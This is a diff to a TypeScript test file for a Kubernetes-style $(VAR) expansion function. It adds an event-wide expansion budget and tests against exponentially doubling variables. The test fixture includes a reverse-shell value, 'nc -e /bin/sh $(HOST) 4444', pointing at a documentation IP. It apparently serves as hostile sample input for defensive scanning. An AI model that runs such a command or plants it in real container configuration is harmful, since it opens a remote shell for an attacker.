@@ -3,7 +3,7 @@
  * values (k8s.io/kubernetes third_party/forked/golang/expansion's syntax), with its bounds.
  */
 import { describe, expect, it } from 'vitest';
-import { containerVars, expandVars, MAX_EXPANDED, MAX_VARS } from './k8s-var-expansion.js';
+import { containerVars, expandVars, expansionBudget, MAX_EVENT_EXPANDED, MAX_EXPANDED, MAX_VARS } from './k8s-var-expansion.js';
 import { mulberry32 } from '../../core/mulberry32.js';
 
 const vars = new Map([['HOST', '203.0.113.7'], ['P', 'nc -e /bin/sh $(HOST) 4444'], ['EMPTY', '']]);
@@ -65,8 +65,19 @@ describe('containerVars', () => {
 
   it('reads MAX_VARS variables at most and bounds values that double at each step', () => {
     expect(containerVars(Array.from({ length: MAX_VARS + 50 }, (_, i) => ({ name: `V${i}`, value: 'v' }))).size).toBe(MAX_VARS);
-    const doubling = [{ name: 'V0', value: 'x'.repeat(64) }, ...Array.from({ length: 60 }, (_, i) => ({ name: `V${i + 1}`, value: `$(V${i})$(V${i})` }))];
-    expect(containerVars(doubling).get('V60')).toHaveLength(MAX_EXPANDED);
+    const doubling = [{ name: 'V0', value: 'x'.repeat(64) }, ...Array.from({ length: 20 }, (_, i) => ({ name: `V${i + 1}`, value: `$(V${i})$(V${i})` }))];
+    expect(containerVars(doubling).get('V20')).toHaveLength(MAX_EXPANDED);
     expect(containerVars('not a list').size).toBe(0);
+  });
+
+  it('stops expanding when the event budget is spent: strings then stay as written', () => {
+    const budget = expansionBudget();
+    const doubling = [{ name: 'V0', value: 'x'.repeat(64) }, ...Array.from({ length: 400 }, (_, i) => ({ name: `V${i + 1}`, value: `$(V${i})$(V${i})` }))];
+    const got = containerVars(doubling, undefined, budget);
+    expect(budget.chars).toBeLessThanOrEqual(0);
+    expect(budget.chars).toBeGreaterThan(-MAX_EXPANDED);
+    expect(got.get('V400')).toBe('$(V399)$(V399)');
+    expect(expandVars('$(V0)', got, budget)).toBe('$(V0)');
+    expect(MAX_EVENT_EXPANDED).toBeGreaterThan(MAX_EXPANDED);
   });
 });
